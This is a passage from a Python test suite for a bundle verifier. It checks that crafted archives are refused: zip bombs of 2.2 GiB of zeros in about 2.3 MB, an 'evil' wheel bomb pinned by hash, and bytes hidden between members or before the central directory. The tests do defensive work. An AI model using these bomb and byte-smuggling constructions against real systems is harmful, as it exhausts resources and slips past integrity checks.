    files = {i.filename: mf.FileEntry(sha256(d), len(d)) for i, d in body}
    files.update({name: mf.FileEntry(digests[mib], mib * MIB) for name, mib in bombs.items()})
    with open(path, "wb") as fh:
        fh.write(mf.SHEBANG)
        with zipfile.ZipFile(fh, "w") as zf:
            for info, data in body:
                zf.writestr(info, data)
            write_zeros(zf, bombs)
            zf.writestr(new_info(mf.MANIFEST_NAME), dataclasses.replace(old, files=files).to_json())
    return path


def test_a_zip_bomb_is_refused_from_the_central_directory(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """2.2 GiB of zeros in 2.3 MB, every hash right: refused before one member is decompressed."""
    bombs = {f"{mf.WHEELHOUSE}/bomb-1.0-py3-none-any.whl": 1100, "payload/bomb2": 1100}
    bad = write_bomb(tmp_path / "bomb.pyz", read_entries(bundle), bombs)
    assert bad.stat().st_size < 4 * MIB

    def no_reading(*args: object, **kwargs: object) -> None:
        raise AssertionError("a member was read before the size cap was checked")

    monkeypatch.setattr(mf, "_hash_stream", no_reading)
    cap = members.MAX_UNPACKED_BYTES
    with pytest.raises(BundleError, match=rf"members unpack to \d+ bytes, more than a bundle may \({cap}\)"):
        verify_zip(bad)


def wheel_bomb() -> bytes:
    """A wheel of 2.2 GiB of zeros in 2.3 MB, with the .dist-info pip needs."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(new_info("evil-1.0.dist-info/WHEEL"), b"Wheel-Version: 1.0\n")
        write_zeros(zf, {"bomb/a.bin": 1100, "bomb/b.bin": 1100})
    return buf.getvalue()


def pinned_wheel(entries: list[Entry], data: bytes) -> list[Entry]:
    """`data` added as evil-1.0-py3-none-any.whl and pinned in the lock; the manifest agrees."""
    entries = [*entries, (new_info(f"{mf.WHEELHOUSE}/evil-1.0-py3-none-any.whl"), data)]
    return with_lock(entries, lock_with_line(f"evil==1.0 --hash=sha256:{sha256(data)}"))


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda: sdist(Path("/nonexistent")), re.escape("is not a wheel (not a zip file")),
        (
            lambda: tiny_wheel("other", "1.0"),
            re.escape("is not a wheel (it has no evil-VERSION.dist-info/WHEEL)"),
        ),
        (wheel_bomb, rf"the wheels {re.escape(LOCK)} installs unpack to \d+ bytes, more than a bundle may"),
    ],
    ids=["an sdist named as a wheel", "no dist-info of its name", "a wheel bomb"],
)
def test_a_wheel_must_be_one_and_fit_the_cap(
    bundle: Path, tmp_path: Path, make: Callable[[], bytes], expected: str
) -> None:
    bad = write_entries(tmp_path / "bad.pyz", pinned_wheel(read_entries(bundle), make()))
    with pytest.raises(BundleError, match=expected):
        verify_zip(bad)


def test_bytes_hidden_inside_the_zip_are_refused(bundle: Path, tmp_path: Path) -> None:
    """Between two members, or before the central directory: bytes no member or record accounts for."""
    entries = read_entries(bundle)
    buf = io.BytesIO()
    buf.write(mf.SHEBANG)
    with zipfile.ZipFile(buf, "w") as zf:
        for number, (info, data) in enumerate(entries):
            if number == 3:
                assert zf.fp is not None  # open for writing
                zf.fp.seek(zf.start_dir)
                zf.fp.write(b"hidden")
                zf.start_dir = zf.fp.tell()
            zf.writestr(info, data)
    between = tmp_path / "between.pyz"
    between.write_bytes(buf.getvalue())
    with pytest.raises(
        BundleError, match=rf"unexpected 6 bytes before member {re.escape(repr(entries[3][0].filename))}"
    ):
        verify_zip(between)
    raw = bundle.read_bytes()
    size_cd, offset_cd = struct.unpack("<II", raw[-10:-2])
    start = len(raw) - 22 - size_cd
    moved = raw[:start] + b"hidden!" + raw[start:-6] + struct.pack("<I", offset_cd + 7) + raw[-2:]
    (tmp_path / "before_cd.pyz").write_bytes(moved)
    assert zipfile.ZipFile(tmp_path / "before_cd.pyz").namelist() == zipfile.ZipFile(bundle).namelist()
    with pytest.raises(BundleError, match="unexpected 7 bytes between the members and the central directory"):
        verify_zip(tmp_path / "before_cd.pyz")
